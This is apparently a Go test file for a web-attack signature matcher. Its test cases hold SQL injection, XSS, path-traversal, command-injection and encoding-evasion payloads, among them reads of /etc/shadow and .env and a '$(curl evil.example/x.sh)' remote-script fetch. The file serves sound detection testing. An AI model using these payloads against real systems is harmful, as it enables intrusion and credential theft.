package detection

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigilsec/vigil/internal/domain"
)

func TestSignatureMatcher_SQLInjection(t *testing.T) {
	matcher := NewSignatureMatcher(nil)

	tests := []struct {
		name      string
		text      string
		wantMatch bool
	}{
		{
			name:      "UNION SELECT",
			text:      "/search?id=1 UNION SELECT username,password FROM users",
			wantMatch: true,
		},
		{
			name:      "OR 1=1",
			text:      "admin' OR 1=1 --",
			wantMatch: true,
		},
		{
			name:      "SLEEP function",
			text:      "1; SELECT SLEEP(5)--",
			wantMatch: true,
		},
		{
			name:      "DROP TABLE",
			text:      "'; DROP TABLE users; --",
			wantMatch: true,
		},
		{
			name:      "classic OR tautology",
			text:      `" OR 1=1 --"`,
			wantMatch: true,
		},
		{
			name:      "normal request",
			text:      "/api/users/123",
			wantMatch: false,
		},
		{
			name:      "benign select word",
			text:      "please select your country from the list",
			wantMatch: true, // select ... from reads as SQL; accepted false positive
		},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			matches := matcher.Match(tc.text)

			if !tc.wantMatch {
				assert.Empty(t, matches)
				return
			}

			require.NotEmpty(t, matches)
			found := false
			for _, m := range matches {
				if m.Category == CategorySQLInjection {
					found = true
				}
			}
			assert.True(t, found, "expected a sql_injection match in %v", matches)
		})
	}
}

func TestSignatureMatcher_XSS(t *testing.T) {
	matcher := NewSignatureMatcher(nil)

	tests := []struct {
		name      string
		text      string
		wantMatch bool
	}{
		{name: "script tag", text: "<script>alert('xss')</script>", wantMatch: true},
		{name: "javascript protocol", text: "javascript:alert(1)", wantMatch: true},
		{name: "event handler", text: "<img onerror=alert(1)>", wantMatch: true},
		{name: "normal text", text: "hello world", wantMatch: false},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cats := matcher.MatchCategories(tc.text)
			if tc.wantMatch {
				assert.Contains(t, cats, CategoryXSS)
			} else {
				assert.Empty(t, cats)
			}
		})
	}
}

func TestSignatureMatcher_PathTraversal(t *testing.T) {
	matcher := NewSignatureMatcher(nil)

	tests := []struct {
		name      string
		text      string
		wantMatch bool
	}{
		{name: "dot dot slash", text: "/files/../../etc/passwd", wantMatch: true},
		{name: "windows path", text: "c:\\windows\\system32", wantMatch: true},
		{name: "env file probe", text: "/.env", wantMatch: true},
		{name: "legitimate nested path", text: "/api/v1/users/42/orders", wantMatch: false},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cats := matcher.MatchCategories(tc.text)
			if tc.wantMatch {
				assert.Contains(t, cats, CategoryPathTraversal)
			} else {
				assert.Empty(t, cats)
			}
		})
	}
}

func TestSignatureMatcher_CommandInjection(t *testing.T) {
	matcher := NewSignatureMatcher(nil)

	tests := []struct {
		name      string
		text      string
		wantMatch bool
	}{
		{name: "chained command", text: "file.txt; cat /etc/shadow", wantMatch: true},
		{name: "subshell", text: "$(curl evil.example/x.sh)", wantMatch: true},
		{name: "backticks", text: "`id`", wantMatch: true},
		{name: "shellshock", text: "() { :;}; echo vulnerable", wantMatch: true},
		{name: "plain filename", text: "report-2024.txt", wantMatch: false},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cats := matcher.MatchCategories(tc.text)
			if tc.wantMatch {
				assert.Contains(t, cats, CategoryCommandInjection)
			} else {
				assert.Empty(t, cats)
			}
		})
	}
}

func TestSignatureMatcher_ReturnsAllMatches(t *testing.T) {
	matcher := NewSignatureMatcher(nil)

	// One payload triggering two categories at once.
	matches := matcher.Match("<script>document.cookie</script>' OR 1=1 --")

	cats := make(map[string]bool)
	for _, m := range matches {
		cats[m.Category] = true
	}
	assert.True(t, cats[CategoryXSS])
	assert.True(t, cats[CategorySQLInjection])
	assert.GreaterOrEqual(t, len(matches), 3, "every matching pattern should be reported")
}

func TestSignatureMatcher_EncodingEvasion(t *testing.T) {
	matcher := NewSignatureMatcher(nil)

	tests := []struct {
		name string
		text string
	}{
		{name: "single url encoding", text: "%27%20OR%201%3D1%20--"},
		{name: "double url encoding", text: "%2527%2520OR%25201%253D1"},
		{name: "null byte splice", text: "uni\x00on sel\x00ect password from users"},
		{name: "fullwidth unicode", text: "ＵＮＩＯＮ ＳＥＬＥＣＴ password from users"},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.NotEmpty(t, matcher.Match(tc.text), "evasion should be normalized away")
		})
	}
}

func TestSignatureMatcher_AddPattern(t *testing.T) {
	matcher := NewSignatureMatcher(nil)
	before := matcher.PatternCount()

	err := matcher.AddPattern("custom", CategorySQLInjection, `(?i)xp_cmdshell`, domain.ThreatLevelCritical)
	require.NoError(t, err)
	assert.Equal(t, before+1, matcher.PatternCount())

	err = matcher.AddPattern("broken", CategorySQLInjection, `([`, domain.ThreatLevelCritical)
	assert.Error(t, err)
}

func TestNormalizeForMatching(t *testing.T) {
	assert.Equal(t, "' OR 1=1 --", normalizeForMatching("%27 OR 1%3D1 --"))
	assert.Equal(t, "union", normalizeForMatching("un\x00ion"))
	assert.Equal(t, "<script>", normalizeForMatching("＜script＞"))
}

func BenchmarkSignatureMatcher_Clean(b *testing.B) {
	matcher := NewSignatureMatcher(nil)
	text := "/api/v1/orders/12345?sort=created_at&direction=desc"
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		matcher.Match(text)
	}
}

func BenchmarkSignatureMatcher_Malicious(b *testing.B) {
	matcher := NewSignatureMatcher(nil)
	text := "/search?q=' UNION SELECT username,password FROM users --"
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		matcher.Match(text)
	}
}
